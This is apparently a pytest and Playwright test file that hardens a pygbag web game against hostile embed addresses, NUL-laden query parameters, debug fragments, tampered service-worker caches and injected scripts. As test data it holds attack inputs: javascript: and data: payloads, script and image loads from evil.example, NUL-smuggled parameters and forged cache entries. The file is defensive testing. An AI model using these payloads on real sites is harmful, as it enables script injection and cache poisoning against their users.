"""The page against hostile links and hosts (issue 46), in Chromium with pygbag's real pythons.js
and main.js (pygbag_cdn.py answers the CDN) and, where Python must run, our stand-in interpreter.

Each attack here worked on the page before it was hardened: a ``javascript:`` or ``data:``
address given to the example host page, a NUL or another control character in a parameter
(the runtime's ``os.environ[k] = v`` stops on a NUL), a same-origin host page's ``#debug``,
a caption with "py" in it dropped from the address, a tampered or foreign file in the service
worker's caches, an interpreter that cannot start waiting for the 60 s watchdog.

A test that does not look at the service worker visits its page in the worker's shared tab
(``cdn_tab``: no service worker, reset before each test; test_the_shared_tab_is_reset_to_a_blank_one
proves the reset), a third of the CPU of a visit in a new context.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from pygbag_cdn import RUNTIME, STAND_IN_WASM, WATCHDOG_SECONDS, wait_failed

EVIL_SCRIPT = "javascript:(()=>{localStorage.setItem('owned','1');document.title='owned'})()"


def visit(context, url: str):
    page = context.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.goto(url)
    return page


def visit_tab(tab, url: str):
    """The worker's shared tab (``cdn_tab``, reset) at ``url``: a new document there."""
    tab.page.goto(url)
    return tab.page


def kept(page, timeout_ms: float = 30_000) -> bool:
    page.wait_for_function("() => window.tt && window.tt.kept !== null", timeout=timeout_ms)
    return page.evaluate("tt.kept")


# ---- the example host page's ?src= -----------------------------------------------------------

@pytest.mark.parametrize("address", [
    EVIL_SCRIPT,
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>parent.localStorage.setItem('owned','1')</script>",
    "https://evil.example/index.html",          # another site, not listed by the build
    "//evil.example/index.html",
    "https://user:pw@evil.example/",
])
def test_the_example_host_page_refuses_an_address_that_is_not_the_games(cdn_tab, shipped_site, address):
    tab, routes = cdn_tab()
    page = visit_tab(tab, shipped_site.url + "examples/embed.html?src=" + quote(address, safe=""))
    page.wait_for_function("() => window.trickTableRefused !== undefined")  # the page's script has decided
    found = page.evaluate("""() => ({
        refused: window.trickTableRefused, status: document.getElementById('status').textContent,
        src: document.getElementById('game').getAttribute('src'), hidden: document.getElementById('game').hidden,
        owned: localStorage.getItem('owned'), title: document.title, frames: window.frames.length})""")
    assert found["refused"] == address and found["src"] is None and found["hidden"]
    assert "it did not load" in found["status"] and page.is_visible("#status")
    assert found["owned"] is None and found["title"] != "owned"


def test_the_example_host_pages_policy_frames_nothing_else(cdn_tab, shipped_site):
    """Its own policy holds even where its script would be loosened: a javascript: or another
    site's address set on the frame by hand does not load."""
    tab, routes = cdn_tab()
    page = visit_tab(tab, shipped_site.url + "examples/embed.html?src=" + quote(EVIL_SCRIPT, safe=""))
    # each refusal is the policy's: the page hears it as a violation (not a wait for nothing)
    page.evaluate("() => { window.seen = []; document.addEventListener('securitypolicyviolation', "
                  "(e) => seen.push(e.effectiveDirective)); }")
    page.evaluate("""(evil) => { const f = document.getElementById('game'); f.hidden = false; f.src = evil; }""", EVIL_SCRIPT)
    page.wait_for_function("() => seen.length >= 1")
    assert page.evaluate("localStorage.getItem('owned')") is None and page.title() != "owned"
    page.evaluate("() => { document.getElementById('game').src = 'data:text/html,<p id=x>data</p>'; }")
    page.wait_for_function("() => seen.length >= 2")
    assert page.evaluate("seen") == ["script-src-elem", "frame-src"]
    assert all(not f.url.startswith("data:") or f.evaluate("!document.getElementById('x')") for f in page.frames[1:])


def test_the_example_host_page_shows_the_game_of_its_own_site(cdn_tab, shipped_site):
    tab, routes = cdn_tab(stand_in=True)
    own = shipped_site.url + "index.html?embed=1&lang=de"
    page = visit_tab(tab, shipped_site.url + "examples/embed.html?src=" + quote(own, safe=""))
    assert page.evaluate("document.getElementById('game').src") == own
    assert page.evaluate("window.trickTableRefused") is None
    page = visit_tab(tab, shipped_site.url + "examples/embed.html")
    assert page.evaluate("document.getElementById('game').src") == shipped_site.url + "index.html?embed=1"


def test_the_shared_tab_is_reset_to_a_blank_one(cdn_tab, shipped_site):
    """What a test may leave in the worker's shared tab is gone after the reset ``cdn_tab``
    runs: its routes and init scripts, pages opened beside it, permissions, cookies, the storage
    of the origins it went to (local and the tab's session storage), the page's script state,
    the requests and dialogs heard."""
    tab, routes = cdn_tab(stand_in=True)
    page = visit_tab(tab, shipped_site.url + "index.html?game=28")
    page.wait_for_function("() => window.tt && (tt.drawn || tt.failure !== null)")
    tab.context.route("https://extra.example/", lambda route: route.fulfill(
        status=200, body="<p>extra", headers={"Content-Type": "text/html"}))
    page.evaluate("() => { localStorage.setItem('left', '1'); sessionStorage.setItem('left', '1'); "
                  "document.cookie = 'left=1'; window.left = 1; confirm('left'); }")
    tab.context.grant_permissions(["clipboard-read"])
    tab.init_script("window.scripted = 1;")
    beside = tab.context.new_page()
    assert beside.goto("https://extra.example/").ok
    assert len(tab.context.pages) == 2 and tab.dialogs == ["left"] and tab.requests and tab.context.cookies()
    assert beside.evaluate("window.scripted") == 1

    tab, fresh = cdn_tab(viewport=(400, 800))
    assert tab.page is page and page.url == "about:blank" and tab.context.pages == [page]
    assert (tab.requests, tab.dialogs, tab.context.cookies()) == ([], [], [])
    assert page.evaluate("[innerWidth, innerHeight]") == [400, 800]
    page = visit_tab(tab, shipped_site.url + "index.html?game=28")
    assert page.evaluate("[localStorage.length, sessionStorage.length, document.cookie, 'left' in window, "
                         "'scripted' in window]") == [0, 0, "", False, False]
    assert page.evaluate("navigator.permissions.query({name: 'clipboard-read'}).then((p) => p.state)") != "granted"
    assert fresh.asked() and not fresh.stand_in  # the new routes answered, as the test asked
    with pytest.raises(Exception, match="extra.example"):  # the test's own route went with the reset
        page.goto("https://extra.example/")


# ---- the service worker keeps and serves only the build's files ------------------------------

def test_a_tampered_page_in_the_app_cache_is_never_served(cdn_context, shipped_site):
    """The attack: script at the game's origin replaced index.html in the worker's cache, so every
    later visit showed the attacker's page. The worker checks each file against the build's hash."""
    context, routes = cdn_context()
    page = visit(context, shipped_site.url + "index.html")
    assert kept(page) is True
    build = shipped_site.summary["version"]
    page.evaluate("""async (build) => {
        const cache = await caches.open('trick-table-app-' + build);
        const forged = new Response('<script>localStorage.setItem("owned", "1")</script>owned',
                                    {headers: {'Content-Type': 'text/html'}});
        await cache.put(new URL('examples/embed.html', location.href).href, forged.clone());
        await cache.put(new URL('index.html', location.href).href, forged);
    }""", build)
    page.reload()
    assert page.evaluate("window.tt && tt.build") == build
    assert page.evaluate("localStorage.getItem('owned')") is None
    kept_page = page.evaluate("""async (build) => {
        const hit = await (await caches.open('trick-table-app-' + build)).match(new URL('index.html', location.href).href);
        return hit ? (await hit.text()).includes('owned') : null;
    }""", build)
    assert kept_page is not True  # the forged entry is gone


def test_a_response_the_build_did_not_list_is_never_cached(cdn_context, shipped_site):
    extra = Path(shipped_site.directory) / "not-listed.txt"
    extra.write_text("a file some host added", encoding="utf-8")
    context, routes = cdn_context()
    page = visit(context, shipped_site.url + "index.html")
    assert kept(page) is True
    assert page.evaluate("fetch('not-listed.txt').then((r) => r.text())") == "a file some host added"
    page.evaluate("fetch('https://pygame-web.github.io/cdn/0.9.3/default.tmpl').then((r) => r.text())")
    urls = page.evaluate("""async () => {
        const out = [];
        for (const name of await caches.keys()) {
            for (const request of await (await caches.open(name)).keys()) out.push(request.url);
        }
        return out;
    }""")
    assert not [u for u in urls if u.endswith(("not-listed.txt", "default.tmpl"))]


def test_a_host_that_unpacks_the_archive_on_the_way_still_gets_it_kept(cdn_context, shipped_site):
    """Some hosts send tricktable.tar.gz with Content-Encoding: gzip, so the browser hands over a
    plain tar: the worker accepts the hash of either (the build wrote both)."""
    from web_serve import LocalServer

    server = LocalServer(shipped_site.directory, gz_encoded=True)
    try:
        context, routes = cdn_context(stand_in=True)
        page = visit(context, server.url + "index.html")
        page.wait_for_function("() => window.tt && (tt.drawn || tt.failure !== null)")
        assert page.evaluate("tt.failure") is None
        assert kept(page) is True
        size = page.evaluate("""async () => {
            const names = await caches.keys();
            const app = names.find((n) => n.startsWith('trick-table-app-'));
            const hit = await (await caches.open(app)).match(new URL('tricktable.tar.gz', location.href).href);
            return hit ? (await hit.arrayBuffer()).byteLength : null;
        }""")
        assert size is not None and size > (Path(shipped_site.directory) / "tricktable.tar.gz").stat().st_size
    finally:
        server.stop()


# ---- what reaches the runtime ---------------------------------------------------------------

def cpythonrc_environment_lines() -> str:
    """The lines of the pinned pygbag wheel's cpythonrc.py that turn the page's arguments into
    environment variables (around line 237), as they are."""
    import pygbag

    text = (Path(pygbag.__file__).parent / "support" / "cpythonrc.py").read_text(encoding="utf-8")
    found = re.search(r"\n( *)(for arg in PyConfig\[\"orig_argv\"\]:\n(?:\1 .*\n)+)", text)
    assert found and "os.environ[k] = v" in found.group(2), "cpythonrc.py's argument loop moved"
    first, *rest = found.group(2).splitlines()
    return "\n".join([first] + [line[len(found.group(1)):] for line in rest])


def run_cpythonrc_lines(argv: list[str]) -> subprocess.CompletedProcess:
    code = ("import json, os, sys\nPyConfig = {'orig_argv': json.loads(sys.argv[1])}\n"
            + cpythonrc_environment_lines()
            + "\nprint(json.dumps({k: v for k, v in os.environ.items() if k in json.loads(sys.argv[2])}))\n")
    names = [a.split("=", 1)[0] for a in argv if "=" in a]
    return subprocess.run([sys.executable, "-c", code, json.dumps(argv), json.dumps(names)],
                          capture_output=True, text=True, timeout=60, env={"PATH": os.environ.get("PATH", "")})


def test_the_runtimes_own_lines_stop_on_a_nul_as_the_issue_found():
    """The rule the page follows, shown on the runtime's real lines: a NUL in a name or a value
    stops them (the game would never start); the page's cleaned arguments pass."""
    for bad in (["game=28\x00"], ["ga\x00me=28"], ["=28"]):
        run = run_cpythonrc_lines(bad)
        assert run.returncode != 0 and re.search(r"(ValueError|OSError): ", run.stderr), (bad, run.stderr)
    run = run_cpythonrc_lines(["", "game=28", "caption=Happy copy\u00e9", "embed", ""])
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout) == {"game": "28", "caption": "Happy copy\u00e9"}


def runtime_arguments(tab, url: str) -> dict:
    page = visit_tab(tab, url)
    page.wait_for_function("() => window.Module && window.Module.PyConfig && tt.trail.some((t) => t[1] === 'onload')")
    return page.evaluate("""() => ({argv: Module.PyConfig.orig_argv, sysArgv: Module.PyConfig.argv,
        search: location.search, hash: location.hash, query: tt.query, interpreter: Module.script.interpreter,
        pybuild: Module.config.PYBUILD, debug: Module.config.debug, interactive: Module.PyConfig.interactive})""")


@pytest.mark.parametrize("query, search, env", [
    # a NUL or another control character in a value or a name: taken out, the parameter kept
    ("?game=28%00", "?game=28", {"game": "28"}),
    ("?game=28&seed=7%0A%09&level=ha%1Frd%7F", "?game=28&seed=7&level=hard", {"game": "28", "seed": "7", "level": "hard"}),
    ("?ga%00me=28&se%C2%85ed=7", "?game=28&seed=7", {"game": "28", "seed": "7"}),
    ("?caption=a%00b%0D%0Ac%E2%80%AEd", "?caption=abc%E2%80%AEd", {"caption": "abc\u202ed"}),
    # a value with "py" is the game's: kept (the runtime reads only the first item for an interpreter)
    ("?game=28&caption=Happy%20copy", "?game=28&caption=Happy%20copy", {"game": "28", "caption": "Happy copy"}),
    ("?caption=Happy%20copy&game=28", "?&caption=Happy%20copy&game=28", {"game": "28", "caption": "Happy copy"}),
    ("?game=28&caption=see%20rules.py", "?game=28&caption=see%20rules.py&", {"game": "28", "caption": "see rules.py"}),
    ("?lang=de&caption=python3.11", "?lang=de&caption=python3.11", {"lang": "de", "caption": "python3.11"}),
])
def test_parameters_reach_the_runtime_clean_and_the_address_keeps_them(cdn_tab, shipped_site, query, search, env):
    tab, routes = cdn_tab()
    found = runtime_arguments(tab, shipped_site.url + "index.html" + query)
    assert found["search"] == search and found["hash"] == ""
    assert found["query"] == query  # the game reads (and reports) the address as it came
    assert found["interpreter"] == "cpython" and found["pybuild"] == "3.12" and found["interactive"] == 0
    assert not any(re.search(r"[\x00-\x1f\x7f-\x9f]", arg) for arg in found["argv"])
    run = run_cpythonrc_lines(found["argv"])  # the runtime's own lines take what the page passed
    assert run.returncode == 0, run.stderr
    assert json.loads(run.stdout) == env


@pytest.mark.parametrize("fragment", ["#debug", "#debug-mobile", "#x#debug"])
def test_a_same_origin_host_pages_fragment_cannot_switch_on_debug_mode(cdn_tab, shipped_site, fragment):
    tab, routes = cdn_tab()
    page = visit_tab(tab, shipped_site.url + "examples/embed.html" + fragment)
    for _ in range(400):
        frame = next((f for f in page.frames if f.url.startswith(shipped_site.url + "index.html")), None)
        if frame is not None:
            break
        page.wait_for_timeout(50)
    frame.wait_for_function("() => window.Module && window.Module.config && tt.trail.some((t) => t[1] === 'onload')")
    assert frame.evaluate("window.top.location.hash") == fragment  # the parent's address holds it
    found = frame.evaluate("({debug: Module.config.debug, divider: Module.config.gui_divider, "
                           "terminal: !!document.getElementById('stdout') || !!window.terminal})")
    assert found == {"debug": False, "divider": 1, "terminal": False}


# ---- failing fast -----------------------------------------------------------------------------

BROKEN_MAIN_JS = b"window.__brokenMainJs = true;\nthrow new TypeError('main.js broke while loading');\n"


@pytest.mark.parametrize("broken, detail", [
    ("unlinkable", "need dylink section"),        # a module main.js cannot link (no dylink section)
    ("uncompilable", "CompileError"),             # not a module at all: main.js aborts
    ("main.js", "main.js broke while loading"),   # a script error in main.js
])
def test_a_runtime_that_cannot_start_shows_the_failure_screen_at_once(cdn_tab, shipped_site, broken, detail):
    """Before: only the watchdog told (60 s in the shipped page). These come from the browser's
    own report of the error, so they never wait for it (this build's watchdog says "did not
    start within 5 s", which the detail below rules out)."""
    wasm = {"unlinkable": STAND_IN_WASM, "uncompilable": b"<html>not here</html>"}.get(broken, STAND_IN_WASM)
    tab, routes = cdn_tab(wasm=wasm)
    if broken == "main.js":
        tab.context.route(RUNTIME + "cpython312/main.js", lambda route: route.fulfill(
            status=200, body=BROKEN_MAIN_JS, headers={"Content-Type": "text/javascript", "Access-Control-Allow-Origin": "*"}))
    started = time.monotonic()
    page = visit_tab(tab, shipped_site.url + "index.html")
    failure = wait_failed(page, timeout_ms=20_000)
    assert failure["reason"] == "runtime" and detail in failure["detail"], failure
    assert "did not start within" not in failure["detail"]
    wasm_at = page.evaluate("""() => { const e = performance.getEntriesByType('resource')
        .find((r) => /main\\.(wasm|js)$/.test(r.name) && r.name.includes('cpython312')); return e ? e.responseEnd : null; }""")
    failed_at = page.evaluate("tt.started") + next(t for t, what, _ in page.evaluate("tt.trail") if what.startswith("failure:"))
    assert failed_at - wasm_at < 5000
    print(f"\n{broken}: failure screen {failed_at - wasm_at:.0f} ms after the runtime's file arrived, "
          f"{time.monotonic() - started:.1f} s after the visit began")


# ---- the Content-Security-Policy ---------------------------------------------------------------

def test_the_policy_lets_the_real_runtime_run_and_blocks_injected_script(cdn_tab, shipped_site):
    tab, routes = cdn_tab(stand_in=True)
    page = visit_tab(tab, shipped_site.url + "index.html?game=28")
    page.wait_for_function("() => window.tt && (tt.drawn || tt.failure !== null)")
    assert page.evaluate("tt.failure") is None and page.evaluate("tt.refused") == []
    policy = page.evaluate("document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
    assert "'unsafe-inline'" not in policy and "default-src 'none'" in policy
    page.evaluate("""() => {
        const s = document.createElement('script'); s.textContent = 'window.injected = 1'; document.head.appendChild(s);
        const t = document.createElement('script'); t.src = 'https://evil.example/x.js'; document.head.appendChild(t);
        const i = document.createElement('img'); i.src = 'https://evil.example/pixel.png'; document.body.appendChild(i);
    }""")
    page.wait_for_function("() => tt.refused.length >= 3")
    assert page.evaluate("window.injected") is None
    refused = page.evaluate("tt.refused")
    assert [d for d, _ in refused] == ["script-src-elem", "script-src-elem", "img-src"], refused
    # with the real main.js too (up to the wasm): nothing the runtime does was refused
    tab, _ = cdn_tab()  # the tab again, reset
    page2 = visit_tab(tab, shipped_site.url + "index.html?game=28")
    wait_failed(page2)
    assert page2.evaluate("tt.refused") == []


# ---- self-hosted: nothing from another host, kept whole, each file downloaded once -------------

@pytest.fixture(scope="module")
def self_hosted(can_browse, real_cdn, src, tmp_path_factory):
    """The site built with SELF_HOST (the vendored runtime files, our stand-ins for main.js,
    main.wasm and main.data), served by a real local server that counts what it sends."""
    import web_build
    import web_first_visit
    from pygbag_cdn import STAND_IN, VENDOR
    from web_serve import LocalServer

    work = tmp_path_factory.mktemp("self-hosted")
    runtime = web_first_visit.runtime_folder(work / "runtime-files", VENDOR, STAND_IN)
    summary = web_build.build(src=src, out=work / "web", stage_root=work / "stage", quiet=True,
                              self_host=runtime, watchdog_seconds=WATCHDOG_SECONDS)
    sent = {}
    # max-age and no validators (as some CDNs): a file fetched again is downloaded again
    server = LocalServer(work / "web", max_age=600, sent=sent, validators=False, rate=4e6)
    server.sent, server.summary = sent, summary
    # the same site at full speed, for the tests that do not count what a first visit costs
    server.fast = LocalServer(work / "web", max_age=600, validators=False)
    yield server
    server.fast.stop()
    server.stop()


def test_a_first_visit_downloads_each_runtime_file_once(browser, self_hosted):
    """Measured at a real local server (Playwright's routing would bypass the HTTP cache): the
    service worker keeps what the page already received, or the HTTP cache's copy."""
    context = browser.new_context()
    try:
        before = dict(self_hosted.sent)
        page = visit(context, self_hosted.url + "index.html?game=28")
        page.wait_for_function("() => window.tt && (tt.drawn || tt.failure !== null)")
        assert page.evaluate("tt.failure") is None
        assert kept(page) is True
        page.wait_for_timeout(500)
        sent = {path: n - before.get(path, 0) for path, n in self_hosted.sent.items() if n != before.get(path, 0)}
        site = Path(self_hosted.directory)
        sizes = {"/" + p.relative_to(site).as_posix(): p.stat().st_size for p in (site / "runtime").rglob("*")
                 if p.is_file() and p.name != "LICENSE"}
        print("\nfirst visit, bytes sent per file:\n" + "\n".join(f"  {k} {v:,}" for k, v in sorted(sent.items())))
        assert {path: n for path, n in sent.items() if path.startswith("/runtime/")} == sizes
        assert sent["/tricktable.tar.gz"] == (site / "tricktable.tar.gz").stat().st_size
    finally:
        context.close()


def test_a_self_hosted_site_asks_no_other_host_and_plays_offline(browser, self_hosted):
    site = self_hosted.fast
    context = browser.new_context()
    own = site.url.rstrip("/")
    elsewhere = []

    def only_own(route):
        if route.request.url.startswith(own + "/"):
            return route.continue_()
        elsewhere.append(route.request.url)
        return route.abort("blockedbyclient")

    context.route("**/*", only_own)
    try:
        page = visit(context, site.url + "index.html?game=28")
        page.wait_for_function("() => window.tt && (tt.drawn || tt.failure !== null)")
        assert page.evaluate("tt.failure") is None and page.evaluate("tt.refused") == []
        assert kept(page) is True
        record = page.evaluate("window.__standIn.record")
        assert record["installed"] == ["pygame"] and record["env"]["PYGPI"] == site.url + "runtime/"
        assert elsewhere == []
        context.set_offline(True)
        page.reload()
        page.wait_for_function("() => window.tt && (tt.drawn || tt.failure !== null)")
        assert page.evaluate("tt.failure") is None and page.evaluate("tt.drawn") is True
        # the example host page is kept too: offline, it shows the game in its frame
        response = page.goto(site.url + "examples/embed.html")
        assert response.ok and response.from_service_worker
        page.wait_for_function("() => window.frames.length === 1 && window.frames[0].tt && window.frames[0].tt.drawn")
        assert elsewhere == []
    finally:
        context.close()


def test_a_tampered_runtime_file_is_never_served(browser, self_hosted):
    context = browser.new_context()
    try:
        page = visit(context, self_hosted.fast.url + "index.html")
        assert kept(page) is True
        page.evaluate("""async () => {
            const name = (await caches.keys()).find((n) => n.startsWith('trick-table-runtime-'));
            await (await caches.open(name)).put(new URL('runtime/0.9.3/pythons.js', location.href).href,
                new Response('window.owned = 1;', {headers: {'Content-Type': 'text/javascript'}}));
        }""")
        page.reload()
        page.wait_for_function("() => window.tt && (tt.drawn || tt.failure !== null)")
        assert page.evaluate("window.owned") is None and page.evaluate("tt.failure") is None
    finally:
        context.close()
